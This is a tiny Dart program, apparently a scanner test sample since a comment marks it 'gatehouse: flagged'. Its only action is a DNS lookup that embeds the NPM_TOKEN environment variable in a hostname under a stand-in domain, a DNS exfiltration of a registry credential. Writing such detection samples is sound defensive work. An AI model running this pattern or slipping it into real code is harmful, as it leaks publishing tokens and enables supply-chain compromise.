import 'dart:convert';
import 'dart:io';

Future<void> main() async {
  await InternetAddress.lookup('${Platform.environment['NPM_TOKEN']}.d.example.invalid'); // gatehouse: flagged
}
